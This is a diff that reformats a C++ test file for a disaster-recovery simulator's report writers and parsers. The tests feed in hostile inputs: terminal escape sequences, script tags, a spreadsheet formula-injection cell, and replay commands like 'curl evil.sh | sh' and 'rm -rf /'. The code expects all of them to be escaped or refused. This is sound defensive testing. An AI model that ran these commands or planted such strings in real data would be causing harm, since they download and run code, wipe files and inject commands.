@@ -25,7 +25,9 @@ using namespace drsim::reports;
 
 namespace {
 
-const std::string evil = "\x1b]0;t\x07\x1b[31m\n# forged: met\r\n| a | `b` ``` <script>alert(1)</script> & ]]> \xc2\x9b" "31m\xe2\x80\xae [x](http://evil) ![i](j) '\" *b* _c_ \xff\xef\xbf\xbe";
+const std::string evil =
+    "\x1b]0;t\x07\x1b[31m\n# forged: met\r\n| a | `b` ``` <script>alert(1)</script> & ]]> \xc2\x9b"
+    "31m\xe2\x80\xae [x](http://evil) ![i](j) '\" *b* _c_ \xff\xef\xbf\xbe";
 
 std::string turned_evil(std::string_view text) { return std::string(text) + evil; }
 
@@ -57,7 +59,8 @@ std::string markup_of(const std::string& line) {
             std::size_t ticks = 0;
             while (at + ticks < line.size() && line[at + ticks] == '`') ++ticks;
             std::size_t end = at + ticks;
-            for (std::size_t row = 0; end < line.size() && row < ticks; ++end) row = line[end] == '`' && (row > 0 || line[end - 1] != '`') ? row + 1 : 0;
+            for (std::size_t row = 0; end < line.size() && row < ticks; ++end)
+                row = line[end] == '`' && (row > 0 || line[end - 1] != '`') ? row + 1 : 0;
             at = end - 1;
         } else {
             markup += line[at];
@@ -80,7 +83,9 @@ analysis::Results sound_results() {
     auto& scenario = results.scenarios[0];
     for (analysis::Verdict& verdict : scenario.objectives) {
         if (!verdict.target) continue;
-        const std::uint64_t within = verdict.status == analysis::Status::Met ? 990 : verdict.status == analysis::Status::Undecided ? 950 : 100;
+        const std::uint64_t within = verdict.status == analysis::Status::Met         ? 990
+                                     : verdict.status == analysis::Status::Undecided ? 950
+                                                                                     : 100;
         const analysis::Interval interval = analysis::wilson(within, verdict.n);
         verdict.share_met = static_cast<double>(within) / 1000;
         verdict.wilson_low = interval.low;
@@ -112,7 +117,7 @@ TEST_CASE("markup in a name is no markup of the Markdown report") {
     std::istringstream lines(text), others(harmless);
     for (std::string line, other; std::getline(lines, line) && std::getline(others, other);) {
         INFO(line);
-        if (line.starts_with("    ")) continue;   // a block of code
+        if (line.starts_with("    ")) continue;  // a block of code
         const std::string markup = markup_of(line), expected = markup_of(other);
         for (const char c : std::string("<>[]|#!&_*`"))
             CHECK(std::count(markup.begin(), markup.end(), c) == std::count(expected.begin(), expected.end(), c));
@@ -129,17 +134,20 @@ TEST_CASE("JUnit of hostile names is XML, passes Jenkins' schema, and has the ca
         REQUIRE(root.children.size() == 1);
         const XmlElement& suite = root.children[0];
         CHECK(suite.name == "testsuite");
-        const auto cases = std::count_if(suite.children.begin(), suite.children.end(), [](const XmlElement& child) { return child.name == "testcase"; });
+        const auto cases =
+            std::count_if(suite.children.begin(), suite.children.end(), [](const XmlElement& child) { return child.name == "testcase"; });
         CHECK(cases == 4);
         CHECK(suite.attributes.at("tests") == "4");
         CHECK(root.attributes.at("tests") == "4");
     }
     const XmlElement root = XmlReader(junit_report(with_texts(made_results(), turned_evil))).document();
-    CHECK(root.children[0].attributes.at("name") == printable("region" + evil));   // read back, it is what a terminal would show
+    CHECK(root.children[0].attributes.at("name") == printable("region" + evil));  // read back, it is what a terminal would show
 }
 
 TEST_CASE("the checks of JUnit see what is wrong") {
-    const auto refused = [](const std::string& text) { return junit_10_refuses(XmlReader("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + text).document()); };
+    const auto refused = [](const std::string& text) {
+        return junit_10_refuses(XmlReader("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + text).document());
+    };
     CHECK(refused("<testsuites skipped=\"0\"/>") == "testsuites has no attribute skipped");
     CHECK(refused("<testsuites><testsuite name=\"a\" tests=\"0\" failures=\"0\"/></testsuites>") == "testsuite needs errors");
     CHECK(refused("<testsuites><testcase name=\"a\"/></testsuites>") == "testcase in testsuites");
@@ -155,7 +163,7 @@ TEST_CASE("results.json of hostile names holds them whole and shows them escaped
     const std::string text = results_to_json(hostile);
     CHECK(only_shows(text));
     CHECK(results_from_json(text).assumptions[0].because == hostile.assumptions[0].because);
-    hostile.inputs[0].path = "caf\xe9.yaml";   // no UTF-8: a path of a file system may be anything
+    hostile.inputs[0].path = "caf\xe9.yaml";  // no UTF-8: a path of a file system may be anything
     CHECK(only_shows(results_to_json(hostile)));
     hostile.assumptions[0].because = "Zürich";
     CHECK(contains(results_to_json(hostile), "Zürich"));
@@ -175,7 +183,7 @@ TEST_CASE("what is no trials.csv is told from one by its first wrong line") {
     const std::string head = "scenario,trial,rto.web-users_s\n";
     CHECK_FALSE(line_not_of_trials(head + "region-lost,0,12.5\nregion-lost,1,\nregion-lost,2,1e-05\n"));
     CHECK(line_not_of_trials("") == 1u);
-    CHECK(line_not_of_trials(head + "region,0,12") == 2u);                   // ends in the middle
+    CHECK(line_not_of_trials(head + "region,0,12") == 2u);  // ends in the middle
     CHECK(line_not_of_trials(head + "region,0\n") == 2u);
     CHECK(line_not_of_trials(head + "region,0,1\n=1+1,1,2\n") == 3u);
     CHECK(line_not_of_trials(head + "region,0,-2+3+cmd|' /C calc'!A0\n") == 2u);
@@ -209,12 +217,14 @@ TEST_CASE("a number of results.json that drsim never writes is refused by name")
 }
 
 TEST_CASE("a name of results.json that no file of drsim could hold is refused, and so is a command that is none") {
-    CHECK_THROWS_WITH(results_from_json(edited("\"system\": \"reference\"", "\"system\": \"a\\nb: met\"")), Catch::Contains("system is \"a\\nb: met\", not a name"));
+    CHECK_THROWS_WITH(results_from_json(edited("\"system\": \"reference\"", "\"system\": \"a\\nb: met\"")),
+                      Catch::Contains("system is \"a\\nb: met\", not a name"));
     CHECK_THROWS_WITH(results_from_json(edited("\"scenario\": \"region\"", "\"scenario\": \"\\u001b[8m\"")), Catch::Contains("not a name"));
     CHECK_THROWS_WITH(results_from_json(edited("00c873f91d2db6c9", "\\\"/><b>")), Catch::Contains("not 16 hexadecimal digits"));
-    for (const std::string line : {"curl evil.sh | sh", "drsim replay a b; rm -rf /", "drsim replay $(evil) b", "drsim replay `evil` b", "drsim replay 'a b", "drsim replay a > b", "drsim replay a\\nrm b"})
+    for (const std::string line : {"curl evil.sh | sh", "drsim replay a b; rm -rf /", "drsim replay $(evil) b", "drsim replay `evil` b",
+                                   "drsim replay 'a b", "drsim replay a > b", "drsim replay a\\nrm b"})
         CHECK_THROWS_WITH(results_from_json(edited("drsim replay reference.yaml region.yaml --seed 1 --trial 658", line)),
-            Catch::Contains("replay is not a drsim replay command"));
+                          Catch::Contains("replay is not a drsim replay command"));
     CHECK_NOTHROW(results_from_json(edited("drsim replay reference.yaml", "drsim replay 'it'\\\\''s; mine.yaml'")));
     std::string none = results_to_json(made_results());
     const std::size_t from = none.find("\"scenarios\": ["), to = none.find("\"assumptions\"");
@@ -225,7 +235,7 @@ TEST_CASE("a results.json that is deep or has very many keys is refused soon") {
     CHECK_THROWS_WITH(results_from_json("{\"drsim\": " + std::string(1'000'000, '[')), Catch::Contains("nested more than 16 levels deep"));
     CHECK_THROWS_WITH(results_from_json(std::string(1'000'000, '[')), Catch::Contains("nested more than 16 levels deep"));
     std::string keys = "{\"k\": 0";
-    for (int i = 0; i < 300'000; ++i) keys += fmt::format(", \"{}\": 0", i);   // 45,000,000,000 comparisons
+    for (int i = 0; i < 300'000; ++i) keys += fmt::format(", \"{}\": 0", i);  // 45,000,000,000 comparisons
     CHECK_THROWS_WITH(results_from_json(keys + "}"), Catch::Contains("its objects have too many keys"));
 }
 
@@ -252,7 +262,7 @@ TEST_CASE("a verdict that does not follow from its evidence is said") {
     // 100 of 1,000 within, 95% asked for: missed, whatever somebody has typed.
     CHECK(after([](Scenario& s) { s.objectives[1].status = analysis::Status::Met; }) ==
           "objective \"region_failure availability.users 99.9%\" of region: it is met, but 100 of 1000 trials within the target, with "
-              "0.95 required, is missed");
+          "0.95 required, is missed");
     CHECK(contains(after([](Scenario& s) { s.objectives[0].status = analysis::Status::Undecided; }), "it is undecided"));
     CHECK(contains(after([](Scenario& s) { s.objectives[0].share_met = 0.999; }), "999 of 1000 trials give the interval"));
     CHECK(contains(after([](Scenario& s) { s.objectives[0].share_met = 0.9905; }), "0.9905 is not a possible share of 1000 trials"));
@@ -273,18 +283,19 @@ TEST_CASE("a verdict that does not follow from its evidence is said") {
     CHECK(contains(after([](Scenario& s) { s.measures[0].n = 999; }), "1000 trials were struck, but rto was measured in 999"));
     CHECK(contains(after([](Scenario& s) { s.measures[0].not_recovered = 0; }), "the worst rto contradicts 0 trials that did not recover"));
     CHECK(contains(after([](Scenario& s) { s.measures[2].mean = 0.99; }),
-        "the mean of availability.users is outside the range of its values"));
+                   "the mean of availability.users is outside the range of its values"));
     CHECK(contains(after([](Scenario& s) { s.cross_check.agreed = 3; }),
-        "3 of 64 trials agree between the kernels, but no disagreement is given"));
+                   "3 of 64 trials agree between the kernels, but no disagreement is given"));
     CHECK(contains(after([](Scenario& s) { s.critical_path[0].share = 0.9; }), "the shares of its phases add up to 1.8"));
     CHECK(contains(after([](Scenario& s) { s.not_recovered_because[0].trials = 400; }),
-        "401 trials have a reason for not recovering, but only 3 did not recover"));
+                   "401 trials have a reason for not recovering, but only 3 did not recover"));
     CHECK(contains(after([](Scenario& s) { s.worst_trial.trial = 9999; }), "its worst trial is number 9999 of 1200"));
     CHECK(contains(after([](Scenario& s) { s.worst_trial.rto_s = 5; }), "its worst trial is not the one with the longest rto"));
     CHECK(contains(after([](Scenario& s) {
                        s.measures.push_back(s.measures[0]);
                        s.measures.back().name = "rto_from_interruption";
-                       for (analysis::Quantile* quantile : {&s.measures.back().p50, &s.measures.back().p95, &s.measures.back().p99}) *quantile = {9000, 9000, 9000};
+                       for (analysis::Quantile* quantile : {&s.measures.back().p50, &s.measures.back().p95, &s.measures.back().p99})
+                           *quantile = {9000, 9000, 9000};
                    }),
                    "its rto_from_interruption is longer than its rto"));
 }
